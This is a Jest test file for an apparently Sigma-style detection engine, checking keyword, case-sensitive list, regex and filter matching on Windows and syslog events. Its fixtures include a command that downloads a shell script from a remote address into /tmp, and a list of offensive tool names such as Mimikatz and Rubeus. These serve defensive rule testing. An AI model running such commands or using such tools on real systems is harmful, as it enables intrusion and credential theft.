/**
 * What an analyst relies on in single-rule matching: keywords search the text the device wrote,
 * |cased holds for lists of any length, a regex the index cannot read is still tried, and a filter
 * that names no rules is refused at load.
 */
import { createEvaluator, loadRulesFromText } from './index';

function titles(yaml: string, event: Record<string, unknown>): string[] {
  const { ruleset, report } = loadRulesFromText(yaml, 'test.yml');
  expect(report.filter((r) => !r.ok).map((r) => r.error)).toEqual([]);
  return createEvaluator(ruleset).evaluate(event).map((d) => d.rule.title);
}

const rule = (title: string, detection: string, logsource = 'product: windows'): string => `title: ${title}\nid: 6a7d0f4e-1111-4000-8000-${String(title.length).padStart(12, '0')}\nlogsource:\n  ${logsource}\ndetection:\n${detection}\nlevel: high\n`;

describe('keywords search the text as the device wrote it', () => {
  const kw = rule('Temp dropper', "  keywords:\n    - 'C:\\Windows\\Temp\\evil.exe'\n  condition: keywords");
  // a Windows event as NXLog sends it: event.original is the JSON document (backslashes escaped), message is the rendered text
  const nxlog = (message: string): Record<string, unknown> => {
    const raw = { EventID: 4688, Channel: 'Security', NewProcessName: 'C:\\Windows\\Temp\\evil.exe', Message: message };
    return { event: { original: JSON.stringify(raw) }, winlog: { channel: 'Security', event_id: '4688', event_data: { NewProcessName: raw.NewProcessName } }, message };
  };

  test('a Windows path keyword matches the rendered message, not only a JSON-escaped copy', () => {
    expect(titles(kw, nxlog('A new process has been created.\r\nNew Process Name: C:\\Windows\\Temp\\evil.exe'))).toEqual(['Temp dropper']);
  });

  test('with an empty message, the event values are searched', () => {
    expect(titles(kw, nxlog(''))).toEqual(['Temp dropper']);
  });

  test('a line-oriented original (syslog) is searched as it is, and a keyword it lacks does not match', () => {
    const lx = rule('Wget to tmp', "  keywords:\n    - 'wget http'\n  condition: keywords", 'product: linux');
    const ev = { event: { original: 'Dec 10 06:55:46 web01 bash[1]: wget http://198.51.100.7/x.sh -O /tmp/x.sh', module: 'system' }, host: { os: { type: 'linux' } }, message: 'wget http://198.51.100.7/x.sh -O /tmp/x.sh' };
    expect(titles(lx, ev)).toEqual(['Wget to tmp']);
    expect(titles(lx, { ...ev, event: { ...ev.event, original: 'Dec 10 06:55:46 web01 bash[1]: curl http://x' }, message: 'curl http://x' })).toEqual([]);
  });
});

describe('|cased holds for lists of any length', () => {
  const values = ['Mimikatz', 'Rubeus', 'SharpHound', 'Seatbelt', 'Certify', 'Whisker'];
  const det = (n: number): string => `  selection:\n    Image|endswith|cased:\n${values.slice(0, n).map((v) => `      - '\\\\${v}.exe'`).join('\n')}\n  condition: selection`;
  const sysmon = (image: string): Record<string, unknown> => ({ Channel: 'Microsoft-Windows-Sysmon/Operational', EventID: 1, Image: image });
  test.each([1, 3, 4, 6])('%i values: exact case matches, another case does not', (n) => {
    const r = rule('Cased tools', det(n), 'product: windows\n  category: process_creation');
    expect(titles(r, sysmon('C:\\Tools\\Mimikatz.exe'))).toEqual(['Cased tools']);
    expect(titles(r, sysmon('C:\\Tools\\mimikatz.exe'))).toEqual([]);
  });
});

describe('a regex the index cannot read is tried, not skipped', () => {
  test.each([
    ['a hex escape', '\\x41BCD\\.exe', 'ABCD.exe'],
    ['a braced hex escape', 'ev\\x{69}l\\.exe', 'evil.exe'],
    ['an octal escape', '\\101dmin', 'Admin'],
    ['a POSIX class', '[[:digit:]]{4}[.]bin', '2026.bin'],
    ['a quoted literal', '\\Qa+b\\E', 'xa+by'],
  ])('%s', (_name, re, value) => {
    const r = rule('Odd regex', `  selection:\n    CommandLine|re: '${re}'\n  condition: selection`, 'product: windows\n  category: process_creation');
    expect(titles(r, { Channel: 'Microsoft-Windows-Sysmon/Operational', EventID: 1, CommandLine: `run ${value} now` })).toEqual(['Odd regex']);
  });
});

describe('filters', () => {
  test("a filter without 'rules' is refused at load, naming what is missing", () => {
    const { report } = loadRulesFromText("title: Quiet the scanner\nlogsource:\n  category: firewall\nfilter:\n  selection:\n    source.ip: 10.0.0.5\n  condition: not selection\n", 'tuning.yml');
    expect(report).toHaveLength(1);
    expect(report[0].ok).toBe(false);
    expect(report[0].error).toMatch(/^tuning\.yml:\d+: a filter needs 'rules'/);
  });

  test("'rules: any' still applies to every rule of its logsource", () => {
    const { report } = loadRulesFromText("title: Quiet the scanner\nlogsource:\n  category: firewall\nfilter:\n  rules: any\n  selection:\n    source.ip: 10.0.0.5\n  condition: not selection\n", 'tuning.yml');
    expect(report[0].ok).toBe(true);
  });
});
